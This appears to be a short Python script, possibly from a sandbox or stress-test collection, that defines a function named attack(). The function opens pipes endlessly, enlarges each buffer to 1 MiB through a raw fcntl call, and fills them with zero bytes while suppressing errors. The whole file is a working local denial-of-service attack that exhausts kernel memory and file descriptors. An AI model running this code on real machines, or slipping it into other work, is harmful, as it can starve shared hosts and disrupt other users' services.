"""Fills the buffers of pipes, enlarged as far as the kernel lets it."""

from __future__ import annotations

import contextlib
import fcntl
import os


def attack() -> None:
    kept = []
    with contextlib.suppress(OSError):
        while True:
            ends = os.pipe()
            kept.append(ends)
            with contextlib.suppress(OSError):
                fcntl.fcntl(ends[1], 1031, 1 << 20)
            os.set_blocking(ends[1], False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(ends[1], bytes(65536))
